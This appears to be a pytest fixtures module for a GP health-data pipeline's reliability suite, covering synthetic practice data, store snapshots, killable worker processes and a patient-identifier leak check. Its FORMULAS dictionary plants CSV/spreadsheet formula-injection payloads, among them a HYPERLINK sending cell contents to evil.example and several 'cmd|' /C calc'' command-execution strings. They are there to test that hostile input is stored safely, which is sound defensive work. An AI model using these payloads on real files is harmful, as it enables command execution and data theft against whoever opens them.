"""Shared pieces of the reliability suite: tiny generated practices, real worker processes, store
snapshots and the leak check every scenario ends with.

The slow part of a practice run is the Great Expectations gate (seconds per practice), so the session
builds one generated home once, in three states, and each test starts from a copy of the state it needs:

* ``fresh``: two practices' deliveries, feeds and the postcode lookup; nothing run;
* ``validated``: run ``r1`` extracted and through the quality gate for both practices, nothing committed;
* ``committed``: run ``r1`` committed for both: the uninterrupted reference (``golden.reference``).

Practice A's delivery carries hostile text on purpose (values that start a spreadsheet formula), so every
scenario runs with it.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import traceback
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pytest

from gpdata import pipeline, settings, store
from gpdata.ingest.feeds import Feed, load_feeds
from gpdata.model import TABLES
from gpdata.ops.leakscan import collect_identifiers, scan_text, scan_tree
from gpdata.privacy import keys
from gpdata.privacy.deid import Pseudonymiser
from gpdata.synth import generate
from gpdata.synth.feeds import write_synthetic_feeds
from tests.conftest import TEST_KEY
from tests.reliability import worker

REPO_ROOT = Path(__file__).resolve().parents[2]
SEED, N_PATIENTS, EVENTS = 11, 50, 15
RUN = "r1"
# Hostile values planted in practice A's delivery: they start a spreadsheet formula and must be stored as
# data, unchanged (curated column they land in -> value).
FORMULAS = {
    ("practitioners", "role_name"): "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    ("medications", "quantity_unit"): "+cmd|' /C calc'!A0",
    ("referrals", "priority"): "-2+3+cmd|' /C calc'!A0",
    ("appointments", "status"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("immunisations", "status"): "\t=1+1",
}
# Outputs that are identifiable by design (the pipeline's inputs), never scanned: deliveries, the reference
# files (the National Data Opt-out list holds NHS numbers) and quarantined delivery files.
INPUTS = ("sources", "reference", "quarantine")


@dataclass
class Home:
    """A GPDATA_HOME in use by the current test (its environment variables are set)."""

    root: Path
    feeds: dict[str, Feed]
    texts: dict[str, str] = field(default_factory=dict)  # output of worker processes, for the leak check

    @property
    def cfg(self) -> settings.Settings:
        return settings.load()

    @property
    def practices(self) -> list[str]:
        return sorted(self.feeds)

    def feed(self, i: int = 0) -> Feed:
        return self.feeds[self.practices[i]]


def home_env(root: Path) -> dict[str, str]:
    # the secrets folder (the development audit key) beside the home, never the checkout's .secrets/
    return {"GPDATA_HOME": str(root), "GPDATA_FEEDS_DIR": str(root / "feeds"), "GPDATA_MASTER_KEY": TEST_KEY,
            "GPDATA_SECRETS_DIR": str(root.parent / f"{root.name}-secrets"), "GX_ANALYTICS_ENABLED": "False"}


def _plant_formulas(delivery: Path) -> None:
    """Put the FORMULAS values into the first resources of the right kinds of a generated delivery."""
    path = sorted(delivery.glob("*.json"))[0]
    doc = json.loads(path.read_text())
    done = set()
    for entry in doc["entry"]:
        res, kind = entry["resource"], entry["resource"]["resourceType"]
        if kind == "PractitionerRole" and "role" not in done:
            res["code"][0]["coding"][0]["display"] = FORMULAS[("practitioners", "role_name")]
            done.add("role")
        elif kind == "MedicationRequest" and "med" not in done and res.get("dispenseRequest"):
            res["dispenseRequest"]["quantity"]["unit"] = FORMULAS[("medications", "quantity_unit")]
            done.add("med")
        elif kind == "ServiceRequest" and res.get("intent") != "plan" and "ref" not in done:
            res["priority"] = FORMULAS[("referrals", "priority")]
            done.add("ref")
        elif kind == "Appointment" and "app" not in done:
            res["status"] = FORMULAS[("appointments", "status")]
            done.add("app")
        elif kind == "Immunization" and "imm" not in done:
            res["status"] = FORMULAS[("immunisations", "status")]
            done.add("imm")
    assert done == {"role", "med", "ref", "app", "imm"}, done
    path.write_text(json.dumps(doc))


@dataclass
class Golden:
    snapshots: dict[str, Path]
    reference: dict[str, pa.Table]  # store_state of the uninterrupted run
    versions: dict[str, int]


@pytest.fixture(scope="session")
def golden(tmp_path_factory) -> Golden:
    base = tmp_path_factory.mktemp("golden")
    work = base / "work"
    snapshots = {}
    with pytest.MonkeyPatch.context() as mp:
        for k in [k for k in os.environ if k.startswith("GPDATA_")]:
            mp.delenv(k)
        for k, v in home_env(work).items():
            mp.setenv(k, v)
        cfg = settings.load()
        truths = generate(work, n_practices=2, n_patients=N_PATIENTS, events_per_patient=EVENTS, seed=SEED)
        codes = sorted(t.ods_code for t in truths)
        write_synthetic_feeds(codes, cfg.sources, cfg.feeds_dir)
        _plant_formulas(cfg.sources / codes[0])
        snapshots["fresh"] = _snapshot(work, base / "fresh")
        feeds = load_feeds(cfg.feeds_dir)
        for feed in feeds:
            pipeline.extract(feed, cfg, RUN)
            pipeline.check(feed, cfg, RUN)
        snapshots["validated"] = _snapshot(work, base / "validated")
        for feed in feeds:
            pipeline.commit(feed, cfg, RUN)
        snapshots["committed"] = _snapshot(work, base / "committed")
        reference, versions = store_state(cfg.store), delta_versions(cfg.store)
    return Golden(snapshots, reference, versions)


def _snapshot(src: Path, dst: Path) -> Path:
    shutil.copytree(src, dst, symlinks=True)
    return dst


@pytest.fixture
def use_home(golden, tmp_path, monkeypatch):
    """``use_home(state)``: a private copy of a golden state as this test's GPDATA_HOME."""

    def use(state: str = "committed") -> Home:
        root = tmp_path / "home"
        shutil.copytree(golden.snapshots[state], root, symlinks=True)
        for k in [k for k in os.environ if k.startswith("GPDATA_")]:
            monkeypatch.delenv(k)
        for k, v in home_env(root).items():
            monkeypatch.setenv(k, v)
        feeds = {f.ods_code: f for f in load_feeds(root / "feeds")}
        return Home(root, feeds)

    return use


# ---- the store, compared ------------------------------------------------------------------------------

def _sorted(table: pa.Table) -> pa.Table:
    return table.sort_by([(c, "ascending") for c in table.column_names]) if table.num_rows else table


def store_state(root: Path) -> dict[str, pa.Table]:
    """Every curated table and the quarantine (without its run id), rows in a canonical order: two stores
    with equal states hold the same data, whatever order or files they were written in."""
    out = {name: _sorted(store.read_table(root, name)) for name in TABLES}
    quarantine = store.read_table(root, store.QUARANTINE)
    out[store.QUARANTINE] = _sorted(quarantine.drop_columns(["run_id"]))
    return out


def assert_same_state(actual: Mapping[str, pa.Table], expected: Mapping[str, pa.Table]) -> None:
    assert sorted(actual) == sorted(expected)
    for name in expected:
        assert actual[name].num_rows == expected[name].num_rows, name
        assert actual[name].equals(expected[name]), f"table {name} differs"


def delta_versions(root: Path) -> dict[str, int]:
    from deltalake import DeltaTable

    return {name: DeltaTable(str(store.table_path(root, name))).version() for name in (*TABLES, store.QUARANTINE)}


def digest(root: Path, skip: Iterable[str] = ()) -> dict[str, str]:
    """SHA-256 of every file under ``root`` (relative path -> hash), skipping top-level names in ``skip``."""
    root, skip = Path(root), set(skip)
    if not root.exists():
        return {}
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and p.relative_to(root).parts[0] not in skip}


def table_digests(root: Path) -> dict[str, str]:
    """Byte-for-byte state of every Delta table folder (data files and transaction log)."""
    return {f"{name}/{k}": v for name in (*TABLES, store.QUARANTINE)
            for k, v in digest(store.table_path(root, name)).items()}


# ---- worker processes ---------------------------------------------------------------------------------

class Worker:
    """One stage in a real child process (see worker.py), killable with SIGKILL."""

    def __init__(self, home: Home, stage: str, ods: str, run_id: str, *args: str) -> None:
        self.home, self.label = home, f"worker {stage} {ods} {run_id} {' '.join(args)}".strip()
        env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
        self.proc = subprocess.Popen([sys.executable, "-m", "tests.reliability.worker", stage, ods, run_id, *args],
                                     cwd=REPO_ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     text=True, start_new_session=True)

    @property
    def paused_file(self) -> Path:
        return self.home.root / worker.PAUSED

    def wait_paused(self, timeout: float = 120) -> None:
        deadline = time.monotonic() + timeout
        while not self.paused_file.exists():
            if self.proc.poll() is not None:
                raise AssertionError(f"{self.label} ended before its fault point: {self.finish()[1][-3000:]}")
            if time.monotonic() > deadline:
                self.kill()
                raise AssertionError(f"{self.label} never reached its fault point")
            time.sleep(0.02)
        self.paused_file.unlink()

    def kill(self) -> None:
        if self.proc.poll() is None:
            os.kill(self.proc.pid, signal.SIGKILL)
        self.finish()

    def finish(self, timeout: float = 300) -> tuple[int, str]:
        """Wait for the process; returns (exit code, its output), which joins the leak check's texts."""
        out, err = self.proc.communicate(timeout=timeout)
        text = out + err
        self.home.texts[self.label] = text
        return self.proc.returncode, text


@pytest.fixture
def workers():
    """Start workers with ``workers(home, stage, ods, run_id, *args)``; any still running at the end of the
    test are killed, so no test leaves a process behind."""
    started: list[Worker] = []

    def start(home: Home, stage: str, ods: str, run_id: str, *args: str) -> Worker:
        w = Worker(home, stage, ods, run_id, *args)
        started.append(w)
        return w

    yield start
    for w in started:
        if w.proc.poll() is None:
            os.kill(w.proc.pid, signal.SIGKILL)
        w.proc.communicate()


# ---- the leak check -----------------------------------------------------------------------------------

def error_text(exc: BaseException) -> str:
    """An error as an operator sees it: message, chained causes and traceback."""
    return "".join(traceback.format_exception(exc))


def assert_no_leaks(home: Home | Path, *, texts: Mapping[str, str] | None = None,
                    errors: Iterable[BaseException] = (), extra: Iterable[tuple[str, str]] = ()) -> int:
    """No identifier from the home's deliveries in anything the run left behind.

    Scans every file under GPDATA_HOME except the inputs (``sources/``, ``reference/``, ``quarantine/``):
    every Parquet cell of every table version, the Delta logs, manifests, quality results, Data Docs,
    staging, extracts and the register; then the given texts (captured logs, worker output) and errors
    (with their tracebacks). ``extra`` adds identifiers by hand as (kind, text), for inputs the scanner
    cannot parse. Returns the number of identifier forms searched (never 0: the check is not vacuous).
    """
    root = home.root if isinstance(home, Home) else Path(home)
    all_texts = dict(home.texts) if isinstance(home, Home) else {}
    all_texts.update(texts or {})
    ids = collect_identifiers(root / "sources")
    for kind, text in extra:
        ids.add(kind, text)
    assert ids.counts.get("nhs_number", 0) >= N_PATIENTS and ids.counts.get("name", 0) >= N_PATIENTS, ids.counts
    pseudo = Pseudonymiser(keys.load_master_key({keys.KEY_ENV: TEST_KEY}))
    ids.link(lambda nhs: pseudo(nhs, "nhs_number"))
    outputs = [p for p in sorted(root.iterdir()) if p.name not in INPUTS]
    findings = scan_tree(outputs, ids)
    for name, text in all_texts.items():
        findings += scan_text(text, ids, name)
    for exc in errors:
        findings += scan_text(error_text(exc), ids, f"error {type(exc).__name__}")
    assert findings == [], [str(f) for f in findings[:20]]
    return sum(ids.counts.values())
